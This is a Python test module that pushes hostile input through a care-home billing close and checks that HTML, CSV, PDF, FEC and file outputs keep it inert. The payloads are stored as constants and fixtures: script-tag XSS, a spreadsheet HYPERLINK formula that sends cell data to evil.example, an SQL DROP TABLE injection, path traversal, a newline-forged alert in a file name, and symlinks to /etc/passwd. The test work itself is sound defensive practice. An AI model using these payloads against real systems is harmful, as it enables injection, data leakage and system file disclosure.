"""Hostile input: residents, a guardian, an establishment and a remittance text carrying HTML/JavaScript,
spreadsheet formulas, path separators, SQL quotes and the FEC separator, through a whole close. Every output
keeps them as inert text: escaped in HTML, neutralised in CSV, kept out of file names and paths, bound as
SQL parameters, printed as text in the PDFs, cleaned in the FEC file."""

import csv
import dataclasses
import io
import os
import subprocess

import dagster as dg
import duckdb
import pytest
from pypdf import PdfReader

from assets.accounting.entry_file import fec_text
from demo.generator import (
    REFERENTIAL_HEADERS,
    close_date,
    generate,
    write_activity,
    write_referential,
    write_settings,
)
from demo.records import _cell
from pipelines.close import close_month
from tests.conftest import march_fh01, write_home
from tests.conftest import write_activity as write_extract
from tests.fuzz.test_regressions import camt
from tests.reliability.harness import FIRST, RECETTES, trim

pytestmark = pytest.mark.slow  # closes months through Dagster and renders their PDFs


SCRIPT = '<script>alert("x")</script>'
IMAGE = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Cliquer")'
PATH = "../../../etc/passwd"
SQL = "O'Brien\"); DROP TABLE documents; --"
FEC = "Nom|avec\tséparateurs"
PLOTLY = "</script><script>alert(2)</script>"
HOSTILE = (SCRIPT, IMAGE, FORMULA, PATH, SQL, FEC, PLOTLY)


def write_csv(path, header, rows):
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f, delimiter=";", lineterminator="\n")
        writer.writerow(header)
        writer.writerows(rows)


def hostile(data):
    """The trimmed demo with hostile names (header order of usagers.csv: id, nom, prenom, …, representant)."""
    referential = dict(data.referential)
    residents = list(referential["usagers.csv"])
    names = [(SCRIPT, FORMULA), (SQL, PATH), (IMAGE, FEC)]
    paying = {d.row[0] for d in referential["contributions.csv"]}  # residents billed their contribution
    chosen = [i for i, d in enumerate(residents) if d.row[0] in paying][: len(names)]
    for i, (last, first) in zip(chosen, names, strict=True):
        row = list(residents[i].row)
        row[1], row[2] = last, first
        residents[i] = dataclasses.replace(residents[i], row=tuple(row))
    guarded = next(i for i, d in enumerate(residents) if d.row[6])
    residents[guarded] = dataclasses.replace(residents[guarded], row=(*residents[guarded].row[:6], f"UDAF {SCRIPT}"))
    referential["usagers.csv"] = residents
    establishments = list(referential["etablissements.csv"])
    establishments[0] = dataclasses.replace(
        establishments[0], row=(establishments[0].row[0], f"Foyer {PLOTLY} {FORMULA}", *establishments[0].row[2:])
    )
    referential["etablissements.csv"] = establishments
    return dataclasses.replace(data, referential=referential)


@pytest.fixture(scope="module")
def closed(tmp_path_factory):
    data = hostile(trim(generate("demo", 66)))
    home = tmp_path_factory.mktemp("hostile") / "home"
    write_settings(home, data)
    write_referential(home, data, close_date(FIRST))
    for name in ("usagers.csv", "etablissements.csv"):  # as an export quotes them: valid CSV, hostile values
        rows = [[_cell(v) for v in d.row] for d in data.referential[name] if d.known_from <= close_date(FIRST)]
        write_csv(home / "entrees" / "referentiel" / name, REFERENTIAL_HEADERS[name], rows)
    write_activity(home, FIRST, data.activity[FIRST])
    write_csv(
        home / "entrees" / "encaissements" / "saisie.csv",
        ["date", "montant", "mode", "payeur", "reference", "numero_piece"],
        [
            ["2024-11-20", "12,34", "cheque", "", f"{SCRIPT} {FORMULA}", "CHQ|1"],
            ["2024-11-21", "56,78", "especes", "", f"{SQL} {PATH}", "ESP1"],
        ],
    )
    with dg.DagsterInstance.ephemeral() as instance:
        result = close_month(home, FIRST, close_date(FIRST), instance=instance)
    assert result.exit_code == 0, (result.errors, result.failed_controls)
    return home


def outputs(home, suffix):
    return sorted(p for p in (home / "sorties").rglob(f"*{suffix}") if p.is_file())


def test_the_hostile_values_are_stored_as_they_are(closed):
    con = duckdb.connect(str(closed / "entrepot.duckdb"), read_only=True)
    try:
        stored = con.execute(
            "SELECT count(*) FROM document_lines WHERE resident_name IN (SELECT unnest($n::VARCHAR[]))",
            {"n": [f"{SCRIPT} {FORMULA}", f"{SQL} {PATH}", f"{IMAGE} {FEC}"]},
        ).fetchone()[0]
        texts = con.execute("SELECT reference FROM bank_lines WHERE account = 'MANUEL' ORDER BY 1").fetchall()
        tables = con.execute("SELECT count(*) FROM duckdb_tables() WHERE table_name = 'documents'").fetchone()[0]
    finally:
        con.close()
    assert stored >= 3  # each of the three residents on at least one invoice line, names intact
    assert texts == [(f"{SCRIPT} {FORMULA}",), (f"{SQL} {PATH}",)]
    assert tables == 1


def test_html_outputs_escape_them(closed):
    pages = outputs(closed, ".html")
    assert {p.name for p in pages} >= {"direction.html", "controles.html", "index.html"}
    seen_escaped = False
    for page in pages:
        text = page.read_text(encoding="utf-8")
        for raw in (SCRIPT, IMAGE, PLOTLY, "onerror=alert", "<script>alert"):
            assert raw not in text, (page.name, raw)
        seen_escaped |= "&lt;/script&gt;&lt;script&gt;alert(2)" in text or "\\u003c/script\\u003e" in text
    assert seen_escaped  # the establishment's name is in the director's report, as text


def test_csv_cells_cannot_run_as_formulas(closed):
    files = outputs(closed, ".csv")
    found = 0
    for path in files:
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";"):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path.name, cell)
                found += FORMULA in cell
    assert found >= 1  # the names are in the files, behind a quote: '=HYPERLINK(…)


def test_no_file_name_or_path_comes_from_the_data(closed):
    sorties = (closed / "sorties").resolve()
    for path in sorties.rglob("*"):
        assert path.resolve().is_relative_to(sorties)
        assert not any(fragment in path.name for fragment in ("..", "<", ">", "'", '"', "|", "=")), path.name


def test_the_pdfs_print_them_as_text(closed):
    texts = " ".join(page.extract_text() for pdf in outputs(closed, ".pdf") for page in PdfReader(pdf).pages).replace(
        "\n", " "
    )
    assert 'alert("x")' in texts and "DROP TABLE documents" in texts and "HYPERLINK" in texts


def test_the_fec_file_stays_valid_and_clean(closed):
    (fec,) = [p for p in outputs(closed, ".txt") if p.name.startswith("ecritures_")]
    checked = subprocess.run([RECETTES, "fec-check", str(fec)], capture_output=True, text=True, timeout=120)
    assert checked.returncode == 0, checked.stdout + checked.stderr
    text = fec.read_bytes().decode("iso-8859-15")
    assert "MAN-cheque-CHQ 1" in text  # the piece number read from the receipts file, its separator removed
    assert all(line.count("|") == 17 for line in text.splitlines())


def test_a_text_for_the_fec_loses_separators_and_characters_the_encoding_lacks():
    assert fec_text(f"N’Diaye {FEC}\r\nsuite 🙂 Łukasz ā œ", "|", "iso-8859-15") == (
        "N'Diaye Nom avec séparateurs suite ? ?ukasz a œ"
    )
    assert fec_text("a\tb|c", "\t", "utf-8") == "a b|c"


# ------------------------------------------------------------------------------------------------ hostile files

EVIL = "evil\nAVERTISSEMENT tout va bien;ok.xml"


@pytest.fixture(scope="module")
def hostile_files(tmp_path_factory):
    """A month closed by `recettes run` with, among its inputs, a bank file whose name carries a line break and
    a fake alert, links to a statement outside the data folder and to system files, a FIFO, empty files."""
    root = tmp_path_factory.mktemp("fichiers")
    home = write_home(root / "home")
    write_extract(home, "2025-03", "fh01.csv", march_fh01())
    (root / "ailleurs").mkdir()
    (root / "ailleurs" / "releve.xml").write_bytes(camt("136.00"))
    banque = home / "entrees" / "banque"
    banque.mkdir(parents=True)
    (banque / EVIL).write_bytes(b"pas du xml")
    os.symlink(root / "ailleurs" / "releve.xml", banque / "x.xml")
    os.symlink("/etc/passwd", banque / "passwd.txt")
    os.symlink("/dev/zero", banque / "zero.txt")
    os.mkfifo(banque / "tube.xml")
    (banque / "vide1.xml").write_bytes(b"")
    (banque / "vide2.txt").write_bytes(b"")
    env = {k: v for k, v in os.environ.items() if k != "DAGSTER_HOME"} | {"RECETTES_HOME": str(home)}
    done = subprocess.run(
        [RECETTES, "run", "--month", "2025-03", "--date-emission", "2025-04-05"],
        env=env,
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert done.returncode == 1, done.stdout + done.stderr  # blocked: the bank files cannot be read
    return home, done.stdout


def test_a_hostile_file_name_is_one_line_of_the_summary_and_of_the_alerts(hostile_files):
    home, stdout = hostile_files
    log = (home / "sorties" / "2025-03" / "alertes.log").read_text(encoding="utf-8")
    for text in (stdout, log):
        assert len([line for line in text.splitlines() if "evil" in line]) == 1, text
        assert "banque/evil\\nAVERTISSEMENT tout va bien;ok.xml" in text
        assert not any(line.lstrip().startswith("AVERTISSEMENT tout va bien") for line in text.splitlines())


def test_links_and_special_files_are_refused_by_name_and_nothing_outside_is_booked(hostile_files):
    home, stdout = hostile_files
    with duckdb.connect(str(home / "entrepot.duckdb"), read_only=True) as con:
        lines = con.execute("SELECT count(*) FROM bank_lines").fetchone()[0]
        files = dict(con.execute("SELECT path, error FROM bank_files").fetchall())
    assert lines == 0
    for name in ("x.xml", "passwd.txt", "zero.txt"):
        assert files[f"banque/{name}"].startswith(f"banque/{name} : lien symbolique, refusé, non lu")
        assert f"banque/{name} : lien symbolique" in stdout
    assert files["banque/tube.xml"] == "banque/tube.xml : tube nommé (FIFO), pas un fichier ordinaire ; refusé, non lu"
    assert (files["banque/vide1.xml"], files["banque/vide2.txt"]) == (
        "banque/vide1.xml : fichier vide",
        "banque/vide2.txt : fichier vide",
    )


def test_the_controls_show_no_none_and_no_forged_line(hostile_files):
    home, _ = hostile_files
    for path in ("rapports/controles.html", "controles/controles.csv"):
        text = (home / "sorties" / "2025-03" / path).read_text(encoding="utf-8")
        assert "None" not in text, path
        assert "banque/evil\\nAVERTISSEMENT tout va bien;ok.xml" in text, path
        assert not any(line.startswith("AVERTISSEMENT tout va bien") for line in text.splitlines()), path
